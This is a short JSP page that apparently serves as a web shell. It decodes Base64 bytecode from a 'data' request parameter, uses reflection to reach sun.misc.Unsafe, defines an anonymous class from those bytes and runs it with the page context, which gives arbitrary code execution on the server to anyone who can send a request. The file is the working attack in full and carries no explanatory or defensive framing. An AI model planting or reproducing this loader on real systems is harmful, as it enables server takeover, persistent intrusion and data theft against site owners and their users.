<%@ page import="sun.misc.Unsafe,java.lang.reflect.Field,java.util.Base64" %>
<%
String data = request.getParameter("data");
if (data != null) {
    Field f = Unsafe.class.getDeclaredField("theUnsafe");
    f.setAccessible(true);
    Unsafe unsafe = (Unsafe) f.get(null);
    byte[] code = Base64.getDecoder().decode(data);
    Class<?> c = unsafe.defineAnonymousClass(java.io.File.class, code, null);
    c.newInstance().equals(pageContext);
}
%>
